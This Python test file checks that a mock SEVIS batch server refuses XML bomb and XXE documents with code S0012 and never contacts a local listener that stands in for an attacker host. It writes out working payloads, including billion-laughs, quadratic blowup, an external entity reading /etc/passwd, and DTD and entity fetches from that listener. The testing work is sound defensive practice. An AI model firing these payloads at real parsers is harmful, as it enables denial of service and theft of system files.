"""XML bombs: every DOCTYPE trick is S0012, answered at once, and nothing is ever fetched.

The same documents go through the server's intake in-process (fast, every variant) and through a real
``serve`` over mutual TLS (the reply is a schema-valid TransactionLog with S0012, and a listener standing
in for an attacker's host sees no connection).
"""

from __future__ import annotations

import socket
import threading
import time

import pytest

from sevis_mock.fixtures import read_fixture
from sevis_mock.server.batch.intake import Refusal, check_document
from sevis_mock.server.store import Organization
from sevis_mock.server.validation import SchemaSet
from tests.support.server import new_batch_id, start_server, with_batch_id

ORG = Organization(org_id="MCK214F00001000", kind="F/M", name="Sevis Mock College")


class Listener:
    """A TCP port that counts who connects to it (the host an external entity or DTD would name)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join(2)
        self.sock.close()


@pytest.fixture(scope="module")
def listener():
    found = Listener()
    yield found
    found.close()


def body(batch_id: str) -> str:
    """A valid F/M document without its XML declaration, for a prologue to go in front of."""
    text = with_batch_id(read_fixture("fm/create-with-dependent.xml"), batch_id).decode("utf-8")
    return text[text.index("?>") + 2 :] if text.startswith("<?xml") else text


def bombs(port: int) -> dict[str, str]:
    url = f"http://127.0.0.1:{port}"
    laughs = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10)
    )
    return {
        "doctype": "<!DOCTYPE SEVISBatchCreateUpdateStudent>",
        "billion-laughs": f"<!DOCTYPE SEVISBatchCreateUpdateStudent [{laughs}]>",
        "quadratic-blowup": f'<!DOCTYPE SEVISBatchCreateUpdateStudent [<!ENTITY a "{"x" * 50_000}">]>',
        "xxe-file": '<!DOCTYPE SEVISBatchCreateUpdateStudent [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        "xxe-http": f'<!DOCTYPE SEVISBatchCreateUpdateStudent [<!ENTITY xxe SYSTEM "{url}/xxe">]>',
        "external-dtd": f'<!DOCTYPE SEVISBatchCreateUpdateStudent SYSTEM "{url}/evil.dtd">',
        "parameter-entity": f'<!DOCTYPE SEVISBatchCreateUpdateStudent [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;]>',
    }


def bombed(prologue: str, name: str, batch_id: str) -> bytes:
    text = body(batch_id)
    if name.startswith("xxe") or name in ("billion-laughs", "quadratic-blowup"):
        entity = {"billion-laughs": "&lol9;", "quadratic-blowup": "&a;" * 1000}.get(name, "&xxe;")
        text = text.replace("<LastName>", f"<LastName>{entity}", 1)
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{prologue}\n{text}'.encode()


@pytest.fixture(scope="module")
def schemas() -> SchemaSet:
    found = SchemaSet.discover([])
    found.compile_all()
    return found


@pytest.mark.parametrize("name", sorted(bombs(1)))
def test_every_bomb_is_s0012_in_intake(schemas, listener, name):
    batch_id = new_batch_id("X")
    started = time.process_time()
    with pytest.raises(Refusal) as refused:
        check_document(bombed(bombs(listener.port)[name], name, batch_id), ORG, batch_id, schemas)
    assert refused.value.code == "S0012"
    assert "DOCTYPE" in refused.value.reasons[0] or "entit" in refused.value.reasons[0].lower()
    assert time.process_time() - started < 2  # CPU time, not wall time: nothing was expanded
    assert listener.connections == 0


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    server = start_server(tmp_path_factory.mktemp("bombs"), "--processing-delay", "0", "--workers", "1")
    yield server
    server.stop(wait=False)


@pytest.mark.parametrize("name", ["billion-laughs", "xxe-file", "xxe-http", "external-dtd", "parameter-entity"])
def test_every_bomb_is_s0012_over_tls_and_nothing_is_fetched(server, listener, name):
    org = server.org("F/M")
    batch_id = new_batch_id("X")
    reply = server.upload(bombed(bombs(listener.port)[name], name, batch_id), org=org, batch_id=batch_id)
    assert reply.upload_code == "S0012"
    assert "DOCTYPE" in reply.detail
    assert b"root:" not in reply.raw  # no file content came back
    assert listener.connections == 0
